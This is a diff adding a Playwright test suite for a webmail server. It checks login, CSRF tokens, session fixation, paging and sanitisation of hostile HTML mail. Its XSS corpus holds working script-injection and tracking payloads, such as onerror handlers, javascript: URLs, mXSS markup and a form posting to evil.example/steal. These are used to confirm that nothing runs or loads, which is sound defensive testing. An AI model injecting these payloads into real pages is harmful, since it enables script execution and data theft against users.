@@ -1,0 +1,410 @@
+"""The webmail in a real browser: Playwright driving Debian's Chromium, headless,
+against a server in a thread on loopback. Mail arrives over SMTP (the MX port).
+
+Every request the browser makes goes through `_guard`: one for a host other than
+loopback is recorded and aborted (before any DNS lookup), and the tests assert
+none was made. Screenshots of the main screens go to $POSTIER_SCREENSHOTS (default
+a directory under the system temp dir); docs/img/ holds copies made that way.
+"""
+
+from __future__ import annotations
+
+import base64
+import os
+import smtplib
+import tempfile
+import urllib.parse
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from email.utils import format_datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.conftest import need_tool
+from tests.support.server import PASSWORD, ServerThread
+
+pytestmark = pytest.mark.tools
+
+playwright_sync = pytest.importorskip("playwright.sync_api")
+expect = playwright_sync.expect
+
+LOOPBACK = {"127.0.0.1", "localhost", "[::1]", "::1"}
+SCREENSHOTS = Path(
+    os.environ.get("POSTIER_SCREENSHOTS") or Path(tempfile.gettempdir()) / "postier-screenshots"
+)
+
+
+class Browser:
+    """One Chromium for the module; a fresh context (cookies, routes) per test."""
+
+    def __init__(self) -> None:
+        path = need_tool("chromium")
+        self._pw = playwright_sync.sync_playwright().start()
+        self.browser = self._pw.chromium.launch(
+            executable_path=path,
+            headless=True,
+            args=["--dns-prefetch-disable", "--no-pings"],
+        )
+
+    def close(self) -> None:
+        self.browser.close()
+        self._pw.stop()
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Browser]:
+    b = Browser()
+    try:
+        yield b
+    finally:
+        b.close()
+
+
+class Web:
+    """A browser context on the server's web port, with the off-loopback guard."""
+
+    def __init__(self, chromium: Browser, srv: ServerThread) -> None:
+        assert srv.app is not None
+        assert srv.app.web_address is not None
+        host, port = srv.app.web_address
+        self.base = f"http://{host}:{port}"
+        self.srv = srv
+        self.offsite: list[str] = []
+        self.dialogs: list[str] = []
+        self.context = chromium.browser.new_context(viewport={"width": 1100, "height": 720})
+        self.context.route("**/*", self._guard)
+        self.page = self.context.new_page()
+        self.page.on("dialog", self._dialog)
+
+    def _guard(self, route: Any) -> None:
+        host = urllib.parse.urlsplit(route.request.url).hostname or ""
+        if route.request.url.startswith(("data:", "blob:", "about:")) or host in LOOPBACK:
+            route.continue_()
+        else:
+            self.offsite.append(route.request.url)
+            route.abort()
+
+    def _dialog(self, dialog: Any) -> None:
+        self.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def login(self, address: str = "alice@example.test", password: str = PASSWORD) -> None:
+        page = self.page
+        page.goto(self.base + "/")
+        page.get_by_label("Email").fill(address)
+        page.get_by_label("Password").fill(password)
+        page.get_by_role("button", name="Log in").click()
+
+    def cookie(self) -> dict[str, Any] | None:
+        return next((c for c in self.context.cookies() if c["name"] == "postier_session"), None)
+
+    def shot(self, name: str) -> None:
+        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+        self.page.screenshot(path=str(SCREENSHOTS / f"{name}.png"))
+
+    def close(self) -> None:
+        self.context.close()
+
+
+@pytest.fixture
+def web(chromium: Browser, server: ServerThread) -> Iterator[Web]:
+    w = Web(chromium, server)
+    try:
+        yield w
+    finally:
+        w.close()
+
+
+def smtp_deliver(srv: ServerThread, rcpt: str, message: bytes) -> None:
+    with smtplib.SMTP("127.0.0.1", srv.port("mx"), timeout=10) as smtp:
+        smtp.ehlo("client.test")
+        smtp.sendmail("carol@elsewhere.test", [rcpt], message)
+
+
+def test_login_read_logout(web: Web, server: ServerThread) -> None:
+    pdf = b"%PDF-1.4 not really\n" * 20
+    smtp_deliver(
+        server,
+        "alice@example.test",
+        b"From: Carol Example <carol@elsewhere.test>\r\n"
+        b"To: alice@example.test\r\n"
+        b"Subject: Quarterly figures\r\n"
+        b"Date: Fri, 04 Dec 2026 09:30:00 +0000\r\n"
+        b"Message-ID: <q1@elsewhere.test>\r\n"
+        b"MIME-Version: 1.0\r\n"
+        b"Content-Type: multipart/mixed; boundary=XX\r\n\r\n"
+        b"--XX\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+        b"Hi Alice,\r\n\r\nthe figures are attached. Caf\xc3\xa9 at ten?\r\n\r\nCarol\r\n"
+        b"--XX\r\nContent-Type: application/pdf\r\n"
+        b"Content-Disposition: attachment; filename=report.pdf\r\n"
+        b"Content-Transfer-Encoding: base64\r\n\r\n"
+        + base64.encodebytes(pdf).replace(b"\n", b"\r\n")
+        + b"--XX--\r\n",
+    )
+    page = web.page
+    page.goto(web.base + "/")
+    expect(page.get_by_role("button", name="Log in")).to_be_visible()
+    web.shot("login")
+
+    web.login()
+    folders = page.get_by_role("navigation", name="Folders")
+    for name in ("Inbox", "Drafts", "Sent", "Archive", "Junk", "Trash"):
+        expect(folders.get_by_role("link", name=name, exact=True)).to_be_visible()
+    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
+    expect(folders.get_by_text("1 unread")).to_be_attached()
+    cookie = web.cookie()
+    assert cookie is not None
+    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and not cookie["secure"]
+    web.shot("list")
+
+    page.get_by_role("link", name="Quarterly figures").click()
+    expect(page.get_by_role("heading", name="Quarterly figures")).to_be_visible()
+    expect(page.get_by_text("Carol Example <carol@elsewhere.test>")).to_be_visible()
+    expect(page.get_by_text("Café at ten?")).to_be_visible()
+    web.shot("message")
+
+    with page.expect_download() as info:
+        page.get_by_role("link", name="report.pdf").click()
+    assert Path(info.value.path()).read_bytes() == pdf
+
+    raw = page.request.get(page.url + "/raw")
+    assert raw.headers["content-type"] == "text/plain; charset=utf-8"
+    assert b"Message-ID: <q1@elsewhere.test>" in raw.body()
+
+    # opening it marked it read, in the store IMAP reads
+    async def flags() -> frozenset[str]:
+        user = await server.store.get_user("alice@example.test")
+        inbox = await server.store.get_mailbox(user.id, "INBOX")
+        return (await server.store.list_messages(inbox.id))[0].flags
+
+    assert "\\Seen" in server.call(flags())
+    expect(folders.get_by_text("unread")).to_have_count(0)
+
+    page.get_by_role("button", name="Log out").click()
+    expect(page.get_by_role("button", name="Log in")).to_be_visible()
+    page.goto(web.base + "/folder/1")
+    expect(page.get_by_role("button", name="Log in")).to_be_visible()
+    assert web.offsite == [] and web.dialogs == []
+
+
+def test_wrong_password_counts_in_the_shared_limiter(web: Web, server: ServerThread) -> None:
+    web.login(password="wrong")
+    expect(web.page.get_by_role("alert")).to_have_text("Wrong email or password.")
+    assert server.app is not None
+    # the same limiter IMAP, SMTP and POP3 use: the account now waits before a reply
+    assert server.app.auth.limiter.delay_for("acct:alice@example.test") > 0
+    web.login()
+    expect(web.page.get_by_role("button", name="Log out")).to_be_visible()
+
+
+def test_csrf_token_required(web: Web) -> None:
+    page = web.page
+    page.goto(web.base + "/")
+    anon = web.cookie()
+    assert anon is not None
+    # login without the token, or with another one, is refused
+    for form in (
+        {"email": "alice@example.test", "password": PASSWORD},
+        {"email": "alice@example.test", "password": PASSWORD, "csrf": "guess"},
+    ):
+        r = page.request.post(web.base + "/login", form=form, max_redirects=0)
+        assert r.status == 403
+    web.login()
+    expect(page.get_by_role("button", name="Log out")).to_be_visible()
+    folder_url = page.url
+    csrf = page.locator("form.logout input[name=csrf]").get_attribute("value")
+    assert csrf
+    refused = [
+        page.request.post(web.base + "/logout", form={}, max_redirects=0),
+        page.request.post(web.base + "/logout", form={"csrf": csrf[:-2] + "xx"}, max_redirects=0),
+        page.request.post(
+            web.base + "/logout",
+            form={"csrf": csrf},
+            headers={"Origin": "http://evil.example"},
+            max_redirects=0,
+        ),
+    ]
+    assert [r.status for r in refused] == [403, 403, 403]
+    # still logged in: the refused requests changed nothing
+    page.goto(folder_url)
+    expect(page.get_by_role("button", name="Log out")).to_be_visible()
+    # with the token it works (so the refusals above are about the token)
+    ok = page.request.post(web.base + "/logout", form={"csrf": csrf}, max_redirects=0)
+    assert ok.status == 303
+    page.goto(folder_url)
+    expect(page.get_by_role("button", name="Log in")).to_be_visible()
+
+
+def test_session_id_before_login_is_not_kept(web: Web) -> None:
+    page = web.page
+    # a session id planted by an attacker is not adopted
+    web.context.add_cookies(
+        [{"name": "postier_session", "value": "planted-by-attacker", "url": web.base}]
+    )
+    page.goto(web.base + "/")
+    before = web.cookie()
+    assert before is not None and before["value"] != "planted-by-attacker"
+    web.login()
+    expect(page.get_by_role("button", name="Log out")).to_be_visible()
+    after = web.cookie()
+    assert after is not None and after["value"] != before["value"]
+    # the pre-login id does not open the mailbox
+    other = web.context.browser.new_context()
+    try:
+        other.add_cookies([{"name": "postier_session", "value": before["value"], "url": web.base}])
+        p = other.new_page()
+        p.goto(page.url)
+        expect(p.get_by_role("button", name="Log in")).to_be_visible()
+        other.add_cookies([{"name": "postier_session", "value": after["value"], "url": web.base}])
+        p.goto(page.url)
+        expect(p.get_by_role("button", name="Log out")).to_be_visible()
+    finally:
+        other.close()
+
+
+def test_pages_and_sort_by_date(web: Web, server: ServerThread) -> None:
+    from postier.store.models import DeliveryTarget
+
+    start = datetime(2026, 1, 1, tzinfo=UTC)
+
+    async def fill() -> None:
+        user = await server.store.get_user("alice@example.test")
+        # delivered in a shuffled order: the list sorts by the Date: header
+        for i in [*range(30, 60), *range(30)]:
+            date = format_datetime(start + timedelta(hours=i))
+            data = (
+                f"From: n{i}@elsewhere.test\r\nSubject: note {i:02d}\r\nDate: {date}\r\n\r\nx\r\n"
+            )
+            await server.store.deliver(data.encode(), [DeliveryTarget(user.id)])
+
+    server.call(fill())
+    web.login()
+    page = web.page
+    links = page.locator("table.messages a")
+    expect(links).to_have_count(50)
+    expect(links.first).to_have_text("note 59")
+    expect(links.last).to_have_text("note 10")
+    page.get_by_role("link", name="Next page").click()
+    expect(links).to_have_count(10)
+    expect(links.first).to_have_text("note 09")
+    expect(links.last).to_have_text("note 00")
+    page.get_by_role("link", name="Oldest first").click()
+    expect(links.first).to_have_text("note 00")
+    expect(page.get_by_text("Page 1 of 2")).to_be_visible()
+
+
+XSS_HTML = r'''
+<p>Hello from the corpus</p>
+<script>window.__pwned = "script"</script>
+<img src=x onerror="window.__pwned='onerror'">
+<img src="http://evil.example/track.png" alt="tracker">
+<a href="javascript:window.__pwned='js-url'" id=jsurl>javascript link</a>
+<a href="&#106;avascript:window.__pwned='entity-js'">entity javascript</a>
+<a href="java&#x09;script:window.__pwned='tab-js'">tab javascript</a>
+<a href="data:text/html,<script>parent.__pwned='data-url'</script>">data link</a>
+<iframe src="data:text/html,<script>parent.__pwned='data-iframe'</script>"></iframe>
+<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>
+<svg><a xlink:href="javascript:window.__pwned='svg-a'"><text y=20>svg link</text></a></svg>
+<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style>
+</mglyph></table></mtext></math>
+<div style="width: expression(window.__pwned='expression'); background: url(http://evil.example/bg.png)">css</div>
+<p style="color:red;background-image:url('http://evil.example/bg2.png')">styled</p>
+<style>@import url(http://evil.example/i.css);
+body { background: url(http://evil.example/b.png) }</style>
+<link rel=stylesheet href="http://evil.example/x.css">
+<base href="http://evil.example/">
+<a href="relative">relative after base</a>
+<form action="http://evil.example/steal" method=post><input name=q value=secret>
+<button id=go>Go</button></form>
+<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
+<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e.swf">
+<video poster="http://evil.example/poster.png"><source src="http://evil.example/v.mp4"></video>
+<body onload="window.__pwned='body'">
+<scr<script>ipt>window.__pwned='split'</scr</script>ipt>
+<img """><script>window.__pwned='malformed'</script>">
+<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>">
+<details open ontoggle="window.__pwned='ontoggle'"><summary>d</summary></details>
+<p>End of the corpus</p>
+'''
+
+SCRIPT = "<script>window.__pwned='header'</script>"
+
+
+def test_xss_corpus_runs_nothing_and_loads_nothing(web: Web, server: ServerThread) -> None:
+    html_b64 = base64.encodebytes(XSS_HTML.encode()).replace(b"\n", b"\r\n")
+    smtp_deliver(
+        server,
+        "alice@example.test",
+        b'From: "<img src=x onerror=window.__pwned=1>" <mallory@elsewhere.test>\r\n'
+        b"To: alice@example.test\r\n"
+        b"Subject: Corpus <b>bold</b> " + SCRIPT.encode() + b"\r\n"
+        b"MIME-Version: 1.0\r\n"
+        b"Content-Type: multipart/mixed; boundary=B\r\n\r\n"
+        b"--B\r\nContent-Type: text/html; charset=utf-8\r\n"
+        b"Content-Transfer-Encoding: base64\r\n\r\n"
+        + html_b64
+        + b"--B\r\nContent-Type: text/html\r\n"
+        b'Content-Disposition: attachment; filename="evil.html"\r\n\r\n'
+        b"<script>window.__pwned='attachment'</script>\r\n"
+        b"--B--\r\n",
+    )
+    encoded_subject = "=?utf-8?b?" + base64.b64encode(SCRIPT.encode()).decode() + "?="
+    smtp_deliver(
+        server,
+        "alice@example.test",
+        f"From: =?utf-8?q?=3Cscript=3Ewindow.__pwned=3D2=3C/script=3E?= <m@elsewhere.test>\r\n"
+        f"Subject: {encoded_subject}\r\n\r\n{SCRIPT}\r\n<img src=x onerror=alert(1)>\r\n".encode(),
+    )
+    web.login()
+    page = web.page
+    # names and subjects are text, not markup
+    expect(page.get_by_role("link", name="Corpus <b>bold</b>")).to_be_visible()
+    expect(page.get_by_role("link", name=SCRIPT, exact=True)).to_be_visible()
+    expect(page.get_by_text("<img src=x onerror=window.__pwned=1>")).to_be_visible()
+
+    page.get_by_role("link", name=SCRIPT, exact=True).click()
+    expect(page.get_by_text("<img src=x onerror=alert(1)>")).to_be_visible()
+    page.go_back()
+
+    page.get_by_role("link", name="Corpus").click()
+    body = page.frame_locator("iframe[title='Message body']")
+    expect(body.get_by_text("End of the corpus")).to_be_visible()
+    expect(page.get_by_text("Remote images blocked")).to_be_visible()
+    # click what there is to click inside the frame
+    for name in ("javascript link", "entity javascript", "tab javascript", "data link"):
+        body.get_by_text(name).click()
+    page.wait_for_timeout(500)  # a 0 s refresh or late handler would have fired
+    web.shot("message-html")
+
+    frame = next(f for f in page.frames if f.name == "" and f != page.main_frame)
+    assert frame.url.endswith("/html"), frame.url  # the meta refresh did not navigate
+    assert page.evaluate("window.__pwned") is None
+    assert len(page.frames) == 2
+    for f in page.frames:
+        assert f.evaluate("window.__pwned") is None, f.url
+    assert len(page.context.pages) == 1  # no popup opened
+    assert web.offsite == [], web.offsite
+    assert web.dialogs == []
+
+    # the HTML attachment is a download, never a page of ours
+    href = page.get_by_role("link", name="evil.html").get_attribute("href")
+    r = page.request.get(web.base + str(href))
+    assert r.headers["content-type"] == "application/octet-stream"
+    assert r.headers["content-disposition"].startswith("attachment;")
+    assert r.headers["x-content-type-options"] == "nosniff"
+    frame_headers = page.request.get(page.url + "/html").headers
+    assert frame_headers["content-security-policy"].startswith("default-src 'none'")
+
+
+def test_guard_and_sentinel_catch_what_they_look_for(web: Web) -> None:
+    """The XSS test's detectors, shown to fire on an unsanitised page."""
+    page = web.page
+    page.set_content(
+        "<img src=x onerror=\"window.__pwned='control'\">"
+        "<img src='http://evil.example/control.png'>"
+    )
+    page.wait_for_function("window.__pwned === 'control'")
+    page.wait_for_timeout(200)
+    assert "http://evil.example/control.png" in web.offsite
